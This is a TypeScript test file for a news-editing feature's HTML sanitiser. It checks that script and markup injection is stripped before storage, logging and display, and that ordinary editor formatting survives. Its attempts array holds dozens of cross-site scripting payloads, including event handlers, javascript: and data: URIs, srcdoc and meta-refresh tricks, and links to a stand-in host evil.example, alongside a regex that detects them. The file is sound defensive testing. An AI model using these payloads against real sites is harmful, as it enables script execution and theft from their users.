// @engine postgres
import type { NewsFields } from "@signoff/domain/records/news";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Story, startStory } from "../../../testing/story.ts";
import { newsContract } from "../news/contract.ts";
import { cleanMarkup, isEmptyMarkup } from "../news/public.ts";
import { operationLogContract } from "../../base/operation-log/contract.ts";
import { newsEditingContract } from "./contract.ts";

const picture = "0190a000-0000-4000-8000-000000000001";

/** Known ways to run code from rich text. */
const attempts = [
  "<script>steal()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>steal()</scr</script>ipt>",
  "<img src=x onerror=steal()>",
  `<img data-picture="${picture}" src=x onerror=steal()>`,
  `<img data-picture='x" onerror="steal()'>`,
  "<svg onload=steal()><script>steal()</script></svg>",
  "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
  "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
  "<a href='javascript:steal()'>x</a>",
  "<a href='JaVaScRiPt:steal()'>x</a>",
  "<a href='java\tscript:steal()'>x</a>",
  "<a href='&#106;avascript:steal()'>x</a>",
  "<a href='data:text/html,<script>steal()</script>'>x</a>",
  "<a href='vbscript:steal()'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='https://ok.example' onclick='steal()'>x</a>",
  "<p style='background:url(javascript:steal())'>x</p>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<style>*{background:url(//evil.example)}</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<iframe src='javascript:steal()'></iframe>",
  "<iframe srcdoc='<script>steal()</script>'></iframe>",
  "<object data='data:text/html,<script>steal()</script>'></object>",
  "<embed src='javascript:steal()'>",
  "<form action='//evil.example'><input name=password autofocus onfocus=steal()></form>",
  "<button formaction='javascript:steal()'>x</button>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
  "<details open ontoggle=steal()>x</details>",
  "<video><source onerror=steal()></video>",
  "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
  "<textarea></textarea><img src=x onerror=steal()>",
  "<template><script>steal()</script></template>",
  "<table background='javascript:steal()'><tr><td onmouseover=steal()>x</td></tr></table>",
  "<img src='data:image/svg+xml,<svg onload=steal()>'>",
  "<!--><script>steal()</script>-->",
  "<p id=location class=so-watermark name=cookie>x</p>",
];
const runs =
  /<script|<style|<svg|<math|<iframe|<object|<embed|<form|<input|<button|<base|<meta|<link|<template|\son\w+\s*=|javascript:|vbscript:|data:|\bstyle=|\bsrc=|\bid=|\bclass=|srcdoc|evil\.example/i;

let story: Story;
beforeAll(async () => {
  story = await startStory();
});
afterAll(() => story.close());

const { add, edit, queryById, publish, delete: remove } = newsEditingContract;
const fields = (content: string): NewsFields => ({
  titleZh: "脚本",
  titleEn: "Script",
  subtitleZh: "<script>steal()</script>",
  subtitleEn: "",
  contentZh: content,
  contentEn: `<p>Before</p>${content}<p>After</p>`,
  releaseType: "notice",
  audience: [{ kind: "all" }],
  from: "2020-01-01T00:00:00.000Z",
  to: null,
  pinned: false,
  mustConfirm: false,
  mail: false,
  usable: true,
});

describe("script in news", () => {
  it.each(attempts)("is taken out of the markup: %s", (markup) => {
    const cleaned = cleanMarkup(`<p>Before</p>${markup}<p>After</p>`);
    expect(cleaned).not.toMatch(runs);
    expect(cleaned).toContain("<p>Before</p>");
    expect(cleanMarkup(cleaned)).toBe(cleaned);
  });

  it("is stored nowhere, neither in the news nor in the log, whether added or edited", async () => {
    const all = attempts.join("\n");
    const { id, revision } = await story.get("admin", add, fields(all));
    const saved = await story.get("admin", edit, {
      id,
      revision,
      fields: { ...fields(`<p>x</p>${all}`), pinned: true },
    });
    const row = await story.database.kysely.selectFrom("news").selectAll().where("id", "=", id).executeTakeFirst();
    expect(`${row?.content_zh}${row?.content_en}`).not.toMatch(runs);
    const log = await story.get("admin", operationLogContract.ofRecord, { objectKind: "news", objectId: id });
    expect(log.map(({ operation }) => operation)).toEqual(["edit", "add"]);
    for (const { before, after } of log)
      expect(JSON.stringify([before?.["contentZh"], after?.["contentZh"]])).not.toMatch(runs);
    await story.get("admin", publish, { id, revision: saved.revision, published: true });
    const shown = await story.get("pie.liu", newsContract.article, { id });
    expect(shown.content).not.toMatch(runs);
    await story.get("admin", remove, { id });
  });

  it("leaves what an editor makes as it was: headings, lists, links, tables, pictures of our own", async () => {
    const markup = [
      "<h2>Changes</h2><p><strong>Bold</strong> <em>and</em> <s>gone</s><br>next</p><hr>",
      "<ul><li><p>One</p></li></ul><ol><li><p>Two</p></li></ol><blockquote><p>Said</p></blockquote>",
      '<p><a href="https://example.org/a?b=1">link</a> <a href="/news?id=1">own</a> <a href="mailto:a@b.example">mail</a></p>',
      '<table><tbody><tr><th colspan="2"><p>Rule</p></th></tr><tr><td><p>a</p></td><td><p>b</p></td></tr></tbody></table>',
      `<img data-picture="${picture}" alt="Drawing">`,
    ].join("");
    expect(cleanMarkup(markup)).toBe(markup);
  });

  it("knows when nothing is left to read", () => {
    expect(["", "<p></p>", "<p> <br></p>", "<script>x</script>"].map(isEmptyMarkup)).toEqual([true, true, true, true]);
    expect(["<p>x</p>", `<img data-picture="${picture}">`].map(isEmptyMarkup)).toEqual([false, false]);
  });

  it("that got into the table by another way is not handed out", async () => {
    const { kysely } = story.database;
    const hostile = `<p>Before</p>${attempts.join("")}`;
    await kysely.updateTable("news").set({ content_en: hostile }).where("id", "=", "news-2").execute();
    const { content } = await story.get("pie.liu", newsContract.article, { id: "news-2" });
    const { fields: opened } = await story.get("admin", queryById, { id: "news-2" });
    expect(`${content}${opened.contentEn}`).toContain("<p>Before</p>");
    expect(`${content}${opened.contentEn}`).not.toMatch(runs);
  });

  it("in a text of before the editor is text", async () => {
    await story.database.kysely
      .updateTable("news")
      .set({ content_en: "1 < 2 & <img src=x onerror=steal()>\n\nNext" })
      .where("id", "=", "news-3")
      .execute();
    const { content } = await story.get("pie.liu", newsContract.article, { id: "news-3" });
    expect(content).toBe("<p>1 &lt; 2 &amp; &lt;img src=x onerror=steal()&gt;</p><p>Next</p>");
    const { fields: opened } = await story.get("admin", queryById, { id: "news-3" });
    expect(cleanMarkup(opened.contentEn)).toBe(opened.contentEn);
  });
});
